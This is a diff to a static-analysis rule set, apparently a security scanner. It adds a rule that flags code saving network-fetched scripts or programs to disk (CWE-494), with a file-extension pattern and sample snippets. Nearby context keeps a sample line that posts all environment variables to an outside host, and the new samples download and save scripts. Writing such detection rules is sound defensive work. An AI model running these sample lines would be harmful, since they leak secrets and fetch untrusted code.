@@ -20,6 +20,8 @@ function isTelling(value: Value): boolean {
   )
 }
 
+const programFile = /\.(pyw?|sh|bash|[cm]?js|ps1|bat|cmd|exe|msi|dll|so|dylib|jar|rb|pl|php|deb|rpm|apk|whl)$/i
+
 export const networkRules: readonly Rule[] = [
   {
     id: 'network/metadata-service',
@@ -104,6 +106,40 @@ export const networkRules: readonly Rule[] = [
         "import requests, os\nrequests.post('https://x.org', json=dict(os.environ))",
       ],
       good: ["import requests\nrequests.get('https://x.org')"],
+    },
+  },
+  {
+    id: 'network/downloaded-program',
+    languages: code,
+    type: 'network',
+    severity: 'medium',
+    cwe: 'CWE-494',
+    description: 'Saves a program or a script that it fetches from the network, ready to be run.',
+    recommendation: 'Download it by hand, read it, and keep the version that was read in the workspace.',
+    implies: ['connect', 'write'],
+    match: {
+      on: 'program',
+      find: ({ program, effects }) => {
+        const saves = effects.some(({ kind, target }) => kind === 'write' && programFile.test(startOf(target)))
+        return program.calls
+          .filter(({ name, args }) =>
+            name.endsWith('urlretrieve')
+              ? programFile.test(startOf(args[1]))
+              : saves &&
+                /\.(write|writelines|write_text|write_bytes|writeFile|writeFileSync)$/.test(name) &&
+                args.some(value => comesFrom(value, origin.download)),
+          )
+          .map(at => ({ at }))
+      },
+    },
+    examples: {
+      bad: [
+        "import requests\nr = requests.get('https://x.org/a.py')\nwith open('a.py', 'w') as f:\n    f.write(r.text)",
+        "import urllib.request\nurllib.request.urlretrieve('https://x.org/a', 'a.sh')",
+      ],
+      good: [
+        "import requests\nr = requests.get('https://x.org/a.csv')\nwith open('a.csv', 'w') as f:\n    f.write(r.text)",
+      ],
     },
   },
   {
